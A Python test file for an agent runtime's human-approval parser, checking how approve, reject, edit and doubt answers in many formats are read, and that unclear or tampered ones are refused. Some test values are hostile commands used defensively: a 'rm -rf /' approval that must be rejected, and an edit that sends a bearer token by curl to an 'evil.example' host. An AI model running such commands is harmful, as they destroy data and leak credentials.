"""What a resume value means, in every dialect: a truth table, and the attacks on it."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assent.policies.redact import redact_value
from assent.runtime.studio.answers import Answer, Shown, coerced, is_doorbell, read_answer
from assent.schemas.approval import Verdict
from assent.schemas.errors import InvalidDocument
from assent.schemas.plan import Plan, Step
from assent.schemas.problem import Problem
from assent.tools.toolbox import standard

TOOLS = standard()
MODELS = {name: tool.Arguments for name, tool in TOOLS.items()}
PLAN_OPTIONS = (Verdict.APPROVE, Verdict.REJECT, Verdict.EDIT)
DOUBT_OPTIONS = (Verdict.HAPPENED, Verdict.DID_NOT_HAPPEN, Verdict.ABANDON)
SQL = {"database": "shop.db", "statement": "UPDATE t SET a = ?", "parameters": [5, "x"]}
TOKEN = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"  # the shape of one, not one


def plan(*calls: tuple[str, dict[str, Any]]) -> Plan:
    return Plan(problem=Problem(title="t"), steps=tuple(Step(step=n, tool=tool, args=args) for n, (tool, args) in enumerate(calls, 1)))


ONE = plan(("shell", {"command": "echo a > a"}))
TWO = plan(("shell", {"command": "echo a > a"}), ("sql", SQL))


def meant(value: Any, of: Plan = ONE, options: tuple[Verdict, ...] = PLAN_OPTIONS) -> Answer | None:
    return read_answer(value, Shown(of, options, MODELS))


APPROVES: list[Any] = [
    "approve", "Approved", " accept\n", "yes", '"approve"', '{"decision": "approve"}', {"decision": "approve"}, {"verdict": "approve"}, {"type": "approve"},
    {"type": "accept"}, {"answer": "approve", "reason": None}, {"decisions": [{"type": "approve"}]}, [{"type": "accept", "args": None}], [{"type": "accept"}],
    [{"type": "accept", "args": {"action": "shell", "args": {"command": "echo a > a"}}}], {"a" * 32: "approve"}, {"0" * 32: {"decisions": [{"type": "approve"}]}},
    ["approve"], [{"type": "response", "args": "approve"}],
]  # fmt: skip


@pytest.mark.parametrize("value", APPROVES, ids=repr)
def test_every_dialect_can_approve(value: Any) -> None:
    assert meant(value) == Answer(Verdict.APPROVE)


REJECTS: list[tuple[Any, str]] = [
    ("reject", ""), ("no", ""), ("deny", ""), ("reject: too risky", "too risky"), ("reject:\ntoo\nrisky", "too\nrisky"), ({"decision": "reject", "reason": "no"}, "no"),
    ({"decisions": [{"type": "reject", "message": "no"}]}, "no"), ([{"type": "response", "args": "too risky"}], "too risky"), ({"type": "reject", "comment": "c"}, "c"),
    ([{"type": "response", "args": "approve it tomorrow"}], "approve it tomorrow"),
]  # fmt: skip


@pytest.mark.parametrize(("value", "reason"), REJECTS, ids=repr)
def test_every_dialect_can_reject_with_a_reason(value: Any, reason: str) -> None:
    assert meant(value) == Answer(Verdict.REJECT, reason=reason)


EDITS: list[Any] = [
    {"decisions": [{"type": "edit", "edited_action": {"name": "shell", "args": {"command": "echo b"}}}]},
    [{"type": "edit", "args": {"action": "shell", "args": {"command": "echo b"}}}],
    {"decision": "edit", "edited_args": {"command": "echo b"}},
    {"decision": "edit", "edit": {"steps": {"1": {"args": {"command": "echo b"}}}}},
    {"type": "edit", "edited_action": {"name": "shell", "args": {"command": "echo b"}}},
]


@pytest.mark.parametrize("value", EDITS, ids=repr)
def test_every_dialect_can_edit(value: Any) -> None:
    assert meant(value) == Answer(Verdict.EDIT, edit={"steps": {"1": {"args": {"command": "echo b"}}}})


@pytest.mark.parametrize("value", [None, "", "  ", {}, "look at the ledger", "Continue", {"b" * 32: None}], ids=repr)
def test_nothing_said_is_a_doorbell(value: Any) -> None:
    assert meant(value) is None
    assert is_doorbell(value)


UNCLEAR: list[Any] = [
    "maybe", "approve?", "approve this", "approve but only on staging", "yes and no", "lgtm", True, False, 1, 0.5, [], [[]], [1], "true", "1",
    {"decision": "approve", "condition": "only on staging"}, {"approved": True}, {"decision": "approve", "verdict": "reject"}, {"decision": True},
    {"decision": ["approve"]}, {"decisions": []}, {"decisions": "approve"}, {"decisions": [{"type": "approve"}, {"type": "approve"}]},
    {"decisions": [{"type": "approve"}], "actor": "root"}, [{"type": "ignore", "args": None}], [{"type": "accept"}, {"type": "accept"}],
    [{"type": "accept", "args": {"action": "shell", "args": {"command": "rm -rf /"}}}], [{"type": "accept", "args": "sure"}],
    {"decision": "edit"}, {"decision": "edit", "edit": {}, "edited_args": {}}, {"decision": "edit", "edited_args": "x"}, "edit",
    {"decision": "approve", "reason": 5}, {"decision": "approve", "edit": {"steps": {}}}, {"decision": "approve", "actor": "root"}, "happened",
    {"decision": "edit", "edit": "/etc/plan.yaml"}, {"decision": "edit", "edit": 5}, {"a" * 32: "approve", "b" * 32: "approve"}, {"decision": "reject", "digest": 7},
]  # fmt: skip


@pytest.mark.parametrize("value", UNCLEAR, ids=repr)
def test_what_is_not_understood_completely_is_no_answer(value: Any) -> None:
    with pytest.raises(InvalidDocument) as error:
        meant(value)
    assert error.value.hint


def test_a_plan_is_answered_as_a_whole() -> None:
    assert meant({"decisions": [{"type": "approve"}] * 2}, TWO) == Answer(Verdict.APPROVE)
    assert meant({"decisions": [{"type": "approve"}]}, TWO) == Answer(Verdict.APPROVE)
    with pytest.raises(InvalidDocument, match="as a whole"):
        meant({"decisions": [{"type": "approve"}, {"type": "reject"}]}, TWO)


def test_edits_of_several_steps_are_one_edit() -> None:
    value = {"decisions": [{"type": "approve"}, {"type": "edit", "edited_action": {"name": "sql", "args": {**SQL, "parameters": "[6, \"x\"]"}}}]}
    assert meant(value, TWO) == Answer(Verdict.EDIT, edit={"steps": {"2": {"args": {**SQL, "parameters": [6, "x"]}}}})


def test_an_edit_of_a_plan_of_several_steps_has_to_name_the_step() -> None:
    with pytest.raises(InvalidDocument, match="the step that changes"):
        meant({"decision": "edit", "edited_args": {"command": "x"}}, TWO)


def test_what_the_answer_is_about_is_kept() -> None:
    found = meant({"decision": "approve", "digest": "sha256:1", "request_id": "req_1"})
    assert found == Answer(Verdict.APPROVE, digest="sha256:1", request_id="req_1")
    assert found.is_bound
    assert meant({"decisions": [{"type": "approve"}], "digest": "sha256:1"}) == Answer(Verdict.APPROVE, digest="sha256:1")


@pytest.mark.parametrize(
    ("value", "verdict"),
    [("happened", "happened"), ("did not happen", "did_not_happen"), ("did-not-happen: I looked", "did_not_happen"), ([{"type": "response", "args": "abandon"}], "abandon")],
)  # fmt: skip
def test_a_step_in_doubt_is_answered_with_what_was_found(value: Any, verdict: str) -> None:
    found = meant(value, options=DOUBT_OPTIONS)
    assert found is not None
    assert found.verdict.value == verdict


@pytest.mark.parametrize("value", ["approve", "reject", [{"type": "accept"}], [{"type": "response", "args": "I do not know"}], {"decision": "edit", "edit": {"steps": {}}}], ids=repr)
def test_a_step_in_doubt_cannot_be_approved(value: Any) -> None:
    with pytest.raises(InvalidDocument):
        meant(value, options=DOUBT_OPTIONS)


def test_stringified_arguments_become_what_the_tool_takes() -> None:
    http = MODELS["http"]
    given_ = {"method": "POST", "url": "https://example.com/1", "headers": '{"a": "1"}', "timeout_s": "5", "keyed": "true", "body": '{"n": 1}'}
    found = coerced(given_, {"body": {"n": 0}, "headers": {"a": "0"}}, http)
    assert found == {**given_, "headers": {"a": "1"}, "timeout_s": 5, "keyed": True, "body": {"n": 1}}
    assert coerced({"body": '{"n": 1}'}, {"body": "text"}, http) == {"body": '{"n": 1}'}, "a text stays the text that it was"
    assert coerced({"command": "5"}, {}, MODELS["shell"]) == {"command": "5"}
    assert coerced({"timeout_s": "soon"}, {}, http) == {"timeout_s": "soon"}, "what cannot be read is left for the tool to refuse"
    assert coerced({"x": "1"}, {}, None) == {"x": "1"}


def test_a_hidden_secret_that_comes_back_unchanged_stays_what_it_was() -> None:
    secret = plan(("http", {"method": "GET", "url": "https://example.com", "headers": {"Authorization": f"Bearer {TOKEN}"}}))
    hidden = redact_value(secret.steps[0].args)["headers"]
    assert TOKEN not in str(hidden)
    for headers in (hidden, json.dumps(hidden)):
        found = meant([{"type": "edit", "args": {"action": "http", "args": {"method": "GET", "url": "https://example.org", "headers": headers}}}], secret)
        assert found is not None
        assert found.edit["steps"]["1"]["args"]["headers"] == {"Authorization": f"Bearer {TOKEN}"}


def test_a_hidden_secret_that_was_changed_in_part_is_refused() -> None:
    secret = plan(("shell", {"command": f"curl -H 'Authorization: Bearer {TOKEN}' https://example.com"}))
    with pytest.raises(InvalidDocument, match="hidden"):
        meant({"decision": "edit", "edited_args": {"command": "curl -H 'Authorization: Bearer [redacted:github-token]' https://evil.example"}}, secret)


@settings(max_examples=300, deadline=None)
@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=12), lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
    st.sampled_from(["decision", "type", "args", "decisions", "action", "name", "edit", "reason", "digest", "steps"]) | st.text(max_size=4), inner, max_size=3), max_leaves=8))  # fmt: skip
def test_anything_is_an_answer_a_doorbell_or_a_clear_refusal(value: Any) -> None:
    try:
        found = meant(value)
    except InvalidDocument:
        return
    assert found is None or found.verdict in PLAN_OPTIONS
